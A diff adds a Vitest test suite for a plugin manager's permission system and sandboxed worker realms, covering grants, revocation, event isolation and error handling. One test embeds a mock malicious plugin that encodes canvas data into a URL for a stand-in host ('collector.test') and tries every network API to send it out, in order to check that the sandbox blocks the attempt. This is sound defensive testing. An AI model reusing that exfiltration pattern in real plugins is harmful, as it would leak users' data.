@@ -0,0 +1,329 @@
+import vm from 'node:vm';
+import { describe, it, expect, beforeEach, afterEach, vi } from 'vitest';
+import { pluginManager } from '../pluginService';
+import { PluginSandbox, pluginRealmRuntime } from '../pluginSandbox';
+import type { SandboxMessage, SandboxPort } from '../pluginSandbox';
+import type { PluginAPIContext, PluginPermission, PluginStoreEntry } from '../../types/plugin';
+
+/** Realm that runs the real runtime in-process, with messages cloned and delivered asynchronously */
+function createLocalRealm(): SandboxPort {
+  const hostHandlers: Array<(message: SandboxMessage) => void> = [];
+  const realmHandlers: Array<(message: SandboxMessage) => void> = [];
+  const deliver = (handlers: typeof hostHandlers, message: SandboxMessage) => {
+    const copy = structuredClone(message);
+    queueMicrotask(() => handlers.forEach(handler => handler(copy)));
+  };
+
+  pluginRealmRuntime({
+    post: message => deliver(hostHandlers, message),
+    listen: handler => realmHandlers.push(handler),
+  });
+
+  return {
+    postMessage: message => deliver(realmHandlers, message),
+    onMessage: handler => hostHandlers.push(handler),
+    close: () => {
+      realmHandlers.length = 0;
+    },
+  };
+}
+
+const NETWORK_GLOBALS = [
+  'fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'RTCPeerConnection', 'webkitRTCPeerConnection',
+];
+
+/** Stand-in for browser workers: runs the worker bootstrap in a fresh VM context whose network globals report to `network` */
+function stubWorkers(network: (...args: unknown[]) => unknown) {
+  const scripts = new Map<string, Blob>();
+  vi.spyOn(URL, 'createObjectURL').mockImplementation(blob => {
+    const url = `blob:plugin-${scripts.size}`;
+    scripts.set(url, blob as Blob);
+    return url;
+  });
+  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
+
+  class TestWorker {
+    onmessage: ((event: { data: unknown }) => void) | null = null;
+    private listeners: Array<(event: { data: unknown }) => void> = [];
+
+    constructor(url: string) {
+      const scope = vm.createContext({
+        console,
+        setTimeout,
+        setInterval,
+        ...Object.fromEntries(NETWORK_GLOBALS.map(name => [name, network])),
+        postMessage: (data: unknown) => {
+          const copy = structuredClone(data);
+          queueMicrotask(() => this.onmessage?.({ data: copy }));
+        },
+        addEventListener: (_type: string, listener: (event: { data: unknown }) => void) => {
+          this.listeners.push(listener);
+        },
+      });
+      scope.self = scope;
+      void scripts.get(url)!.text().then(source => {
+        vm.runInContext(source, scope);
+      });
+    }
+
+    postMessage(data: unknown) {
+      const copy = structuredClone(data);
+      queueMicrotask(() => this.listeners.forEach(listener => listener({ data: copy })));
+    }
+
+    terminate() {
+      this.listeners = [];
+    }
+  }
+  vi.stubGlobal('Worker', TestWorker);
+}
+
+function createContext() {
+  const elements = [{ id: 'a', type: 'rect' }];
+  const context = {
+    canvas: {
+      getElements: vi.fn(() => elements),
+      getSelectedElements: vi.fn(() => []),
+      selectElements: vi.fn(),
+      createElement: vi.fn((type: string, props: Record<string, unknown>) => ({ id: 'new', type, ...props })),
+      updateElement: vi.fn(),
+      deleteElement: vi.fn(),
+      getViewport: vi.fn(() => ({ x: 0, y: 0, zoom: 1 })),
+      setViewport: vi.fn(),
+    },
+    assets: { getAssets: vi.fn(() => []), uploadAsset: vi.fn(), deleteAsset: vi.fn() },
+    ui: {
+      showNotification: vi.fn(),
+      showModal: vi.fn(),
+      hideModal: vi.fn(),
+      registerPanel: vi.fn(),
+      unregisterPanel: vi.fn(),
+      registerContextMenu: vi.fn(),
+    },
+    storage: { get: vi.fn(), set: vi.fn(), remove: vi.fn(), clear: vi.fn() },
+    network: { fetch: vi.fn() },
+    clipboard: { copy: vi.fn(), paste: vi.fn() },
+    settings: { get: vi.fn(), set: vi.fn(), getSchema: vi.fn(() => []) },
+    events: { on: vi.fn(), off: vi.fn(), emit: vi.fn() },
+  } satisfies PluginAPIContext;
+  pluginManager.setAPIContext(context);
+  return context;
+}
+
+function storeEntry(permissions: PluginPermission[], main = 'https://plugins.test/plugin.js'): PluginStoreEntry {
+  return {
+    manifest: {
+      id: 'test-plugin',
+      name: 'Test Plugin',
+      version: '1.0.0',
+      description: 'Plugin under test',
+      author: { name: 'Tests' },
+      category: 'developer',
+      tags: [],
+      permissions,
+      hooks: ['onInit', 'onElementSelect'],
+      main,
+    },
+    rating: 0,
+    ratingCount: 0,
+    downloads: 0,
+    featured: false,
+    verified: true,
+    screenshots: [],
+    changelog: [],
+  };
+}
+
+function serve(source: string) {
+  vi.stubGlobal('fetch', vi.fn(() => Promise.resolve(new Response(source))));
+}
+
+const grantAll = () => pluginManager.setPermissionPrompt((_plugin, permissions) => Promise.resolve(permissions));
+
+describe('PluginManager permissions', () => {
+  beforeEach(() => {
+    localStorage.clear();
+    pluginManager.setSandboxFactory(() => createLocalRealm());
+  });
+
+  afterEach(async () => {
+    if (pluginManager.isInstalled('test-plugin')) {
+      await pluginManager.uninstallPlugin('test-plugin');
+    }
+    pluginManager.setPermissionPrompt(null);
+    pluginManager.clearErrors();
+    vi.unstubAllGlobals();
+  });
+
+  it('runs sandboxed plugins against the granted API only', async () => {
+    const context = createContext();
+    serve(`
+      lumina.register({
+        async onInit(api) {
+          const elements = await api.canvas.getElements();
+          await api.canvas.createElement('text', { content: String(elements.length) });
+          await api.canvas.updateElement('a', { hasNetwork: 'network' in api });
+        }
+      });
+    `);
+    grantAll();
+
+    await pluginManager.installPlugin(storeEntry(['read-canvas', 'write-canvas']));
+
+    expect(pluginManager.getPlugin('test-plugin')?.status).toBe('active');
+    expect(context.canvas.createElement).toHaveBeenCalledWith('text', { content: '1' });
+    expect(context.canvas.updateElement).toHaveBeenCalledWith('a', { hasNetwork: false });
+  });
+
+  it('only grants what the user allows and remembers the decision', async () => {
+    createContext();
+    serve('lumina.register({});');
+    const prompt = vi.fn((_plugin: unknown, permissions: PluginPermission[]) =>
+      Promise.resolve(permissions.filter(p => p !== 'network'))
+    );
+    pluginManager.setPermissionPrompt(prompt);
+
+    await pluginManager.installPlugin(storeEntry(['read-canvas', 'network']));
+    await pluginManager.deactivatePlugin('test-plugin');
+    await pluginManager.activatePlugin('test-plugin');
+
+    expect(prompt).toHaveBeenCalledTimes(1);
+    expect(prompt.mock.calls[0]?.[1]).toEqual(['read-canvas', 'network']);
+    expect(pluginManager.getGrantedPermissions('test-plugin')).toEqual(['read-canvas']);
+    expect(pluginManager.getAllowedMethods('test-plugin')).not.toContain('network.fetch');
+  });
+
+  it('stops delivering hooks and answering calls once a permission is revoked', async () => {
+    const context = createContext();
+    serve(`
+      let api;
+      lumina.register({
+        onInit(a) { api = a; },
+        async onElementSelect(elements) {
+          await api.canvas.createElement('badge', { count: elements.length });
+        }
+      });
+    `);
+    grantAll();
+    await pluginManager.installPlugin(storeEntry(['read-canvas', 'write-canvas']));
+
+    await pluginManager.executeHook('onElementSelect', [{ id: 'a' }]);
+    expect(context.canvas.createElement).toHaveBeenCalledTimes(1);
+
+    pluginManager.revokePermission('test-plugin', 'write-canvas');
+    await pluginManager.executeHook('onElementSelect', [{ id: 'a' }]);
+    expect(context.canvas.createElement).toHaveBeenCalledTimes(1);
+    expect(pluginManager.getErrors('test-plugin')).toHaveLength(1);
+
+    pluginManager.revokePermission('test-plugin', 'read-canvas');
+    await pluginManager.executeHook('onElementSelect', [{ id: 'a' }]);
+    expect(pluginManager.getErrors('test-plugin')).toHaveLength(1);
+  });
+
+  it('rejects permissions the manifest does not declare', async () => {
+    createContext();
+    serve('lumina.register({});');
+    await pluginManager.installPlugin(storeEntry(['read-canvas']));
+
+    expect(() => pluginManager.grantPermission('test-plugin', 'network')).toThrow(/not declared/);
+  });
+
+  it('marks the plugin as errored when its script throws', async () => {
+    createContext();
+    serve('throw new Error("boom");');
+
+    await expect(pluginManager.installPlugin(storeEntry(['read-canvas']))).rejects.toThrow('boom');
+    expect(pluginManager.getPlugin('test-plugin')?.status).toBe('error');
+  });
+
+  it('keeps plugin events inside the plugin', async () => {
+    createContext();
+    serve(`
+      lumina.register({
+        async onInit(api) {
+          await api.events.on('ping', value => api.events.emit('pong', value + 1));
+          await api.events.emit('plugin-error', { pluginId: 'other', error: 'fake' });
+          await api.events.emit('ping', 1);
+        }
+      });
+    `);
+    const appListener = vi.fn();
+    const pong = vi.fn();
+    pluginManager.on('plugin-error', appListener);
+    pluginManager.on('plugin:test-plugin:pong', pong);
+
+    // Declared but never granted
+    await pluginManager.installPlugin(storeEntry(['storage']));
+
+    await vi.waitFor(() => expect(pong).toHaveBeenCalledWith(2));
+    expect(appListener).not.toHaveBeenCalled();
+    pluginManager.off('plugin-error', appListener);
+    pluginManager.off('plugin:test-plugin:pong', pong);
+  });
+});
+
+describe('PluginManager realms', () => {
+  beforeEach(() => {
+    localStorage.clear();
+    pluginManager.setSandboxFactory(null);
+  });
+
+  afterEach(async () => {
+    if (pluginManager.isInstalled('test-plugin')) {
+      await pluginManager.uninstallPlugin('test-plugin');
+    }
+    pluginManager.setPermissionPrompt(null);
+    vi.unstubAllGlobals();
+  });
+
+  it('keeps plugins without network access off the network', async () => {
+    const context = createContext();
+    const network = vi.fn();
+    stubWorkers(network);
+    serve(`
+      lumina.register({
+        async onInit(api) {
+          const url = 'https://collector.test/?d=' + encodeURIComponent(JSON.stringify(await api.canvas.getElements()));
+          const reachable = ${JSON.stringify(NETWORK_GLOBALS)}.filter(name => {
+            try {
+              self[name](url);
+              return true;
+            } catch (e) {
+              return false;
+            }
+          });
+          await api.canvas.updateElement('a', { reachable });
+        }
+      });
+    `);
+    grantAll();
+
+    await pluginManager.installPlugin(storeEntry(['read-canvas', 'write-canvas']));
+
+    expect(pluginManager.getPlugin('test-plugin')?.status).toBe('active');
+    expect(context.canvas.updateElement).toHaveBeenCalledWith('a', { reachable: [] });
+    expect(network).not.toHaveBeenCalled();
+  });
+});
+
+describe('PluginSandbox', () => {
+  it('answers a call with an error when the method cannot be resolved', async () => {
+    const sandbox = new PluginSandbox(createLocalRealm(), () => {
+      throw new Error('Plugin API context not initialized');
+    });
+    await sandbox.start(`
+      lumina.register({
+        async onInit(api) {
+          try {
+            await api.canvas.getElements();
+          } catch (e) {
+            return e.message;
+          }
+        }
+      });
+    `, ['canvas.getElements']);
+
+    await expect(sandbox.invokeHook('onInit')).resolves.toBe('Plugin API context not initialized');
+    sandbox.terminate();
+  });
+});